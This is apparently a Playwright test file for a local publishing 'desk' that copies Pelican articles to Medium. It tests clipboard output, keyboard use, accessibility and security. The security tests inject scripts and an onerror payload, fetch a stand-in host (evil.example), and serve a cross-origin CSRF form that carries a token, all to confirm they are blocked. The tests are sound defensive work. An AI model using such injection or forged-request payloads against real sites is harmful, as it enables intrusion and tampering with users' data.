"""The desk as people use it: a real build, served by a real process's code, in a real Chromium."""

import re
from contextlib import contextmanager
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import Site, serving
from desks import ADDRESS, desk_of, settings_of
from referee import faults, in_order, read, seen, words
from screens import (
    CONF,
    DESKTOP,
    PHONE,
    RICH,
    enter,
    flawless,
    focused,
    html_of,
    looked_at,
    pasted,
    tab,
    tab_to,
    violations,
)

from pelican_medium.desk.export import write


@pytest.fixture(scope="module")
def original(shared_site):
    """A small site with a rich, a hostile and a plain article, built once."""
    import shutil

    site = shared_site
    site.configure(CONF)
    (site.folder / "content/images").mkdir()
    picture = Path(__file__).parents[2] / "sample_site/content/images/tide-curve.png"
    (site.folder / "content/images/lamp.png").write_bytes(picture.read_bytes())
    site.article(
        "rich",
        text=RICH,
        title="A mast & its logger – Θ",
        tags="wind, tides",
        medium_status="public",
        medium_license="cc-40-by",
        medium_publication="Tides and Gauges",
    )
    site.article("hostile", text="Some *words*.", date="2026-01-03 10:00")
    site.article("plain", text="Plain words.", date="2026-01-04 10:00")
    site.write_ledger(
        {
            "lost": {"medium": {"state": "unknown", "reason": "no answer"}, "title": "Lost"},
            "done": {
                "medium": {
                    "state": "posted",
                    "at": "2026-01-01T00:00:00Z",
                    "url": "https://medium.com/p/aaaaaa000002",
                },
                "title": "Done",
            },
        }
    )
    assert site.build().returncode == 0
    return shutil, site


@pytest.fixture
def desk(original, tmp_path):
    """The desk of a copy of that site, with the site to look at."""
    shutil, site = original
    copy = Site(Path(shutil.copytree(site.folder, tmp_path / "copy")))
    with desk_of(copy) as opened:
        yield opened, copy


@pytest.fixture
def open_desk(window, desk):
    """Open the desk; the page keeps its `requests`, and its `troubles`."""

    @contextmanager
    def opened(viewport=DESKTOP, scheme="light"):
        with tab(window, viewport, scheme) as page:
            window.grant_permissions(["clipboard-read", "clipboard-write"], origin=desk[0].origin)
            page.requests, page.troubles = [], []
            page.on("request", lambda request: page.requests.append(request.url))
            page.on("console", lambda line: page.troubles.append(line.text))
            page.on("pageerror", lambda error: page.troubles.append(str(error)))
            enter(page, desk[0])
            yield page

    return opened


def text_of(html):
    return words(seen(read(html)))


TITLE = "A mast &amp; its logger – Θ"

#: What a person may type instead of an address, and a part of what they are told.
WRONG = {
    "": "Paste the story",
    "https://medium.com/new-story": "holds no id",
    "not an address": "no absolute",
    "https://small.example/plain-0123456789ab": "on your own site",
}


def test_from_the_list_to_posted_by_keyboard_alone(open_desk, desk):
    """Tab and Enter: open, copy, give the address back; the ledger says so, the list goes on."""
    with open_desk() as page:
        tab_to(page, "A mast & its logger")
        page.keyboard.press("Enter")
        page.wait_for_selector("text=Copy the title")
        page.wait_for_load_state()
        tab_to(page, "Copy the story")
        page.keyboard.press("Enter")
        assert page.locator("#told").inner_text() == "Copy the story: copied."
        assert focused(page).startswith("Copy the story")
        assert "Some text about" in pasted(page)["text/plain"]
        tab_to(page, "url")
        page.keyboard.type(ADDRESS)
        tab_to(page, "It is there")
        page.keyboard.press("Enter")
        page.wait_for_selector("text=is recorded as posted.")
        page.wait_for_function("document.activeElement.innerText === 'Hostile'")
        page.get_by_role("link", name="All articles").click()
        assert page.locator("section[aria-labelledby=waiting] li").count() == 2
        assert page.troubles == []
    cell = desk[1].ledger["articles"]["rich"]["medium"]
    assert (cell["state"], cell["by"], cell["url"]) == ("posted", "hand", ADDRESS)
    assert (cell["publish_status"], cell["id"]) == ("public", "0123456789ab")


def open_article(page, title):
    page.get_by_role("link", name=title).click()
    page.wait_for_selector("h1.headline")
    page.wait_for_load_state()  # the script comes last


def test_what_an_editor_gets_is_what_was_shown(open_desk):
    """The clipboard's HTML has the words, code and pictures shown, and passes the referee."""
    with open_desk() as page:
        open_article(page, "A mast")
        page.get_by_role("button", name="Copy the story").click()
        got = pasted(page)
        html = html_of(got)
        story = page.locator(".story").inner_html()
        assert faults(f"<h1>Title</h1>{html}") == []
        assert html.startswith("<h2>A small subtitle</h2>")
        assert html.isascii()
        assert text_of(f"<h1>{TITLE}</h1>{html}") == text_of(story)
        shown, sent = BeautifulSoup(story, "html.parser"), BeautifulSoup(html, "html.parser")
        assert [pre.get_text().split() for pre in sent("pre")] == [
            pre.get_text().split() for pre in shown("pre")
        ]
        assert len(sent("pre")) == 2
        for pre in sent("pre"):
            assert {"data-code-block-lang", "data-code-block-mode"} == set(pre.attrs)
            assert "\n\n" not in pre.get_text()
        assert "\n \n" in sent("pre")[0].get_text()
        assert [image["src"] for image in sent("img")] == ["https://small.example/images/lamp.png"]
        assert [image["alt"] for image in sent("img")] == [image["alt"] for image in shown("img")]
        assert [a["href"] for a in sent("a")] == [
            a["href"] for a in shown("a") if "embed" not in (a.parent.get("class") or [])
        ]
        assert in_order(["about", "Its", "stays", "gauge", "39"], words(got["text/plain"])) is None


def test_the_clipboard_has_rich_and_plain_text(open_desk):
    """Read back with the browser's own clipboard, both forms are there and hold the story."""
    with open_desk() as page:
        open_article(page, "A mast")
        page.get_by_role("button", name="Copy the story").click()
        read_back = page.evaluate(
            """async () => {
                const [item] = await navigator.clipboard.read();
                const text = async (type) => (await item.getType(type)).text();
                return [item.types, await text("text/html"), await text("text/plain")];
            }"""
        )
        types, html, plain = read_back
        assert {"text/html", "text/plain"} <= set(types)
        pasted_ = re.sub("^<meta[^>]*>", "", html)
        assert text_of(f"<h1>{TITLE}</h1>{pasted_}") == text_of(page.locator(".story").inner_html())
        assert plain.startswith("A small subtitle\n")


def test_each_field_has_its_own_button(open_desk):
    """Title, subtitle, canonical link, each tag and the address to import are copied alone."""
    wanted = {
        "Copy the title": "A mast & its logger – Θ",
        "Copy subtitle": "A small subtitle",
        "Copy canonical link": "https://small.example/rich.html",
        "Copy topic: wind": "wind",
        "Copy topic: tides": "tides",
        "Copy address to import": "https://small.example/rich.html",
        "Copy alt text 1": "A lamp on a pole",
    }
    with open_desk() as page:
        open_article(page, "A mast")
        page.get_by_text("Or have Medium import it").click()
        page.get_by_text("One by one").click()
        for name, text in wanted.items():
            page.get_by_role("button", name=name, exact=True).click()
            assert page.locator("#told").inner_text() == f"{name}: copied."
            assert page.evaluate("navigator.clipboard.readText()") == text
        page.get_by_role("button", name="Copy code block 1", exact=True).click()
        assert page.evaluate("navigator.clipboard.readText()").startswith(
            "def read(port):\n    return port.readline()\n\nreading"
        )
        losses = page.locator("details .notes li").all_inner_texts()
        assert losses == [
            "1 code block: all its lines run together into one",
            "1 table: taken apart into loose paragraphs",
            "1 embed: it stays a plain address",
        ]


def test_skip_undo_and_back_to_waiting(open_desk, desk):
    """Each is one click, each changes the ledger, and undo opens the article again."""
    site = desk[1]
    with open_desk() as page:
        open_article(page, "Plain")
        page.get_by_role("button", name="Skip it").click()
        page.wait_for_selector("text=“Plain” is skipped.")
        assert site.states()["plain"] == "skipped"
        page.get_by_role("button", name="Undo").click()
        page.wait_for_selector("h1:text-is('Plain')")
        assert site.states().get("plain") is None
        page.get_by_role("button", name="Skip it").click()
        page.wait_for_selector("text=“Plain” is skipped.")
        page.get_by_role("link", name="All articles").click()
        open_article(page, "Plain")
        page.get_by_role("button", name="Back to waiting").click()
        page.wait_for_selector("text=“Plain” is waiting again.")
        assert site.states().get("plain") is None


def test_a_wrong_address_is_said_and_can_be_put_right(open_desk, desk):
    """What was typed is still there, with the reason; nothing was recorded."""
    with open_desk() as page:
        open_article(page, "Plain")
        field = page.get_by_label("Its address on Medium")
        for wrong, said in WRONG.items():
            field.fill(wrong)
            page.get_by_role("button", name="It is there").click()
            page.wait_for_selector(f"[role=alert]:has-text({said!r})")
            assert field.input_value() == wrong
            assert field.evaluate("field => field === document.activeElement")
            assert field.get_attribute("aria-invalid") == "true"
            described = field.get_attribute("aria-describedby")
            assert said in page.locator(f"#{described}").inner_text()
        assert desk[1].states().get("plain") is None


def test_a_token_brings_a_button_that_shows_how_it_goes(window, original, medium, tmp_path):
    """The page follows the post step by step, and ends with where the story is."""
    shutil, site = original
    copy = Site(Path(shutil.copytree(site.folder, tmp_path / "copy")))
    copy.use(medium)
    with desk_of(copy) as opened, tab(window) as page:
        enter(page, opened)
        open_article(page, "Plain")
        first = page.locator("main button").first
        assert first.inner_text() == "Post it"
        first.click()
        page.wait_for_selector("#lines:not([data-progress]) li:has-text('posted “Plain”')")
        assert "“posting”. Sending" in page.locator("#lines").inner_text()
        assert page.locator(".state").first.inner_text() == "posted"
    assert copy.states()["plain"] == "posted"
    assert len(medium.posts) == 1


# --- How it looks and reads -----------------------------------------------------------------


SCHEMES, SIZES = ["light", "dark"], {"desktop": DESKTOP, "phone": PHONE}


def states(page):
    """Go through lists, an article with everything open, an error, and one that is done."""
    yield "lists"
    open_article(page, "A mast")
    page.locator("summary").first.click()
    yield "everything open"
    page.get_by_label("Its address on Medium").fill("https://medium.com/new-story")
    page.get_by_role("button", name="It is there").click()
    page.wait_for_selector("[role=alert]")
    yield "an error"
    page.get_by_role("button", name="Skip it").click()
    page.wait_for_selector("text=is skipped.")
    page.get_by_role("link", name="All articles").click()
    yield "one skipped"
    open_article(page, "Done")
    yield "done"


@pytest.fixture(scope="module")
def looks(window, original, tmp_path_factory):
    """What each of those shows, in each size and scheme."""
    named = {(scheme, size): (SIZES[size], scheme) for scheme in SCHEMES for size in SIZES}
    copy = original[1].copied(tmp_path_factory.mktemp("looks") / "copy")
    with desk_of(copy) as opened, tab(window) as page:
        enter(page, opened)
        return looked_at(page, states(page), named)


@pytest.mark.parametrize("viewport", SIZES)
@pytest.mark.parametrize("scheme", SCHEMES)
def test_axe_finds_no_violation(looks, viewport, scheme):
    """Lists, an article with everything open, an error, one skipped, and one that is posted."""
    lists, article = flawless(ways_back=0), flawless(ways_back=1)
    assert looks[scheme, viewport] == {
        "lists": lists,
        "everything open": article,
        "an error": article,
        "one skipped": lists,
        "done": article,
    }


def test_axe_finds_what_is_wrong(window):
    """The proof itself can fail: a page with a nameless button and a nameless field."""
    with tab(window) as page:
        page.set_content("<button></button><input>")
        assert {"button-name", "label"} <= {name for name, _ in violations(page)}


def test_nothing_scrolls_sideways_on_a_phone(open_desk):
    """At 360 and 320 px each page is as wide as the screen; what can be touched is inside."""
    with open_desk(PHONE) as page:
        for title in (None, "A mast", "Hostile"):
            if title:
                open_article(page, title)
                page.locator("summary").first.click()
            for width in (360, 320):
                page.set_viewport_size({"width": width, "height": 740})
                assert page.evaluate("document.documentElement.scrollWidth") == width
                for thing in page.locator("button:visible, input:visible, select:visible").all():
                    box = thing.bounding_box()
                    assert box["x"] >= 0
                    assert box["x"] + box["width"] <= width
                    assert box["height"] >= 24
            if title:
                page.get_by_role("link", name="All articles").click()


# --- Safe -----------------------------------------------------------------------------------


def test_a_hostile_article_does_nothing(open_desk, desk, way_out):
    """Nothing of it runs, loads, or leaves; not on the page and not on the clipboard."""
    with open_desk() as page:
        open_article(page, "Hostile")
        page.locator(".story").click()
        page.get_by_role("button", name="Copy the story").click()
        html = html_of(pasted(page))
        page.wait_for_load_state("networkidle")
        assert "taken" not in page.title()
        assert (
            page.locator(".story :is(script, iframe, object, embed, form, svg, video)").count() == 0
        )
        away = [url for url in page.requests if not url.startswith(desk[0].origin)]
        assert away == []
        assert page.troubles == []
    assert html.startswith("<p>Some <em>words</em>.</p>")
    assert "taken" not in html
    assert "evil.example" not in html
    assert "evil.example" not in " ".join(way_out[0])


def test_the_policy_stops_scripts_and_frames(open_desk, way_out):
    """Even a script that came through would not run, and no other host would be asked."""
    with open_desk() as page:
        stopped = page.evaluate(
            """async () => {
                const stopped = [];
                addEventListener(
                    "securitypolicyviolation", (e) => stopped.push(e.effectiveDirective));
                const put = (name, attributes) =>
                    document.body.append(Object.assign(document.createElement(name), attributes));
                put("script", { textContent: "document.title = 'taken'" });
                put("script", { src: "https://evil.example/a.js" });
                put("p", { innerHTML: "<img src='data:,' onerror='document.title = `taken`'>" });
                await fetch("https://evil.example/d").catch(() => {});
                for (let n = 0; n < 300 && stopped.length < 5; n += 1)
                    await new Promise(requestAnimationFrame);
                return stopped;
            }"""
        )
        assert {"script-src-elem", "script-src-attr", "connect-src"} <= set(stopped)
        assert "taken" not in page.title()
    assert "evil.example" not in " ".join(way_out[0])


ATTACK = """<!DOCTYPE html><title>attack</title>
<form method="post" action="{target}mark" target="_top">
<input name="key" value="plain"><input name="state" value="skipped">
<input name="seen" value="{seen}">
<input name="token" value="{token}"><button>go</button></form>"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_reads_and_changes_nothing(open_desk, desk, host):
    """A page on another port, in the very browser that is let in: no read, no frame, no form."""
    import http.server

    opened, site = desk
    home = f"{opened.origin}{opened.secrets.prefix}/"

    with open_desk() as page:
        open_article(page, "Plain")
        seen_ = page.locator("input[name=seen]").first.get_attribute("value")

        class Attack(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                """Say nothing."""

            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                # It even knows the prefix and the form's secret, which it cannot.
                text = ATTACK.format(target=home, seen=seen_, token=opened.secrets.token)
                self.wfile.write(text.encode())

        before = site.ledger_path.read_bytes()
        with serving(Attack) as url:
            other = page.context.new_page()
            other.goto(url.replace("127.0.0.1", host))
            tried = other.evaluate(
                """async (home) => {
                    const ask = (path, how) =>
                        fetch(home + path, { credentials: "include", ...how })
                            .then((answer) => answer.type, () => "failed");
                    const load = (name, attributes) => new Promise((done) => {
                        const element = document.createElement(name);
                        element.onload = () => done("loaded");
                        element.onerror = () => done("failed");
                        Object.assign(element, attributes);
                        document.body.append(element);
                    });
                    const frame = document.createElement("iframe");
                    const framed = new Promise((done) => { frame.onload = done; });
                    frame.src = home;
                    document.body.append(frame);
                    await framed;
                    let inside;
                    try { inside = frame.contentDocument?.body.innerText ?? "closed"; }
                    catch { inside = "closed"; }
                    return [
                        await ask("", {}),
                        await ask("progress", { mode: "no-cors" }),
                        await ask("mark", { method: "POST", body: new FormData() }),
                        await load("script", { src: home + "asset/desk.js" }),
                        await load("img", { src: home + "asset/desk.svg" }),
                        inside,
                    ];
                }""",
                home,
            )
            assert tried == ["failed", "failed", "failed", "failed", "failed", "closed"]
            other.get_by_role("button", name="go").click()
            other.wait_for_url(f"{home}mark")
            assert "takes no orders from another page" in other.content()
        assert site.ledger_path.read_bytes() == before
        page.reload()
        assert page.locator("h1.headline").inner_text() == "Plain"


def test_pages_ask_only_the_desk_and_the_articles_pictures(window, original, tmp_path, way_out):
    """A picture that the build does not have is the only thing asked of another host."""
    shutil, site = original
    copy = Site(Path(shutil.copytree(site.folder, tmp_path / "copy")))
    copy.article("far", text="Words. ![A far lamp](https://far.example/lamp.png)")
    copy.build()
    with desk_of(copy) as opened, tab(window) as page:
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        enter(page, opened)
        for title in ("Far", "A mast"):
            open_article(page, title)
            page.wait_for_load_state("networkidle")
            page.get_by_role("link", name="All articles").click()
        page.wait_for_load_state("networkidle")
        away = {url for url in asked if not url.startswith(opened.origin)}
    assert away == {"https://far.example/lamp.png"}


def test_two_desks_in_one_browser_do_not_shut_each_other_out(open_desk, original, tmp_path):
    """Cookies know no ports, so each desk's is bound to its own path."""
    shutil, site = original
    copy = Site(Path(shutil.copytree(site.folder, tmp_path / "second")))
    with desk_of(copy) as second, open_desk() as page:
        other = page.context.new_page()
        enter(other, second)
        assert other.locator("h1").inner_text() == "Desk"
        page.reload()
        assert page.locator("h1").inner_text() == "Desk"


# --- As files -------------------------------------------------------------------------------


def test_exported_pages_can_be_copied_from(window, desk, tmp_path):
    """Opened from a disk, the story and the fields are copied as from the served page."""
    index = write(tmp_path / "out", settings_of(desk[1]))
    with tab(window) as page:
        page.goto(index.as_uri())
        assert violations(page) == []
        open_article(page, "A mast")
        page.get_by_role("button", name="Copy the story").click()
        assert faults(f"<h1>Title</h1>{html_of(pasted(page))}") == []
        assert violations(page) == []
        picture = page.locator(".story img")
        assert picture.evaluate("image => image.complete && image.naturalWidth") > 0
        assert page.locator("form").count() == 0


def test_previews_pages_have_no_violation(window, original, tmp_path):
    """Axe has nothing to say of the index and the pages of `preview` either."""
    _, site = original
    result = site.cli("preview", "--output", str(tmp_path / "preview"))
    assert result.returncode == 0, result.stderr
    with tab(window) as page:
        for name in ("index.html", "rich.html", "hostile.html"):
            page.goto((tmp_path / "preview" / name).as_uri())
            for scheme in ("light", "dark"):
                page.emulate_media(color_scheme=scheme)
                assert violations(page) == []
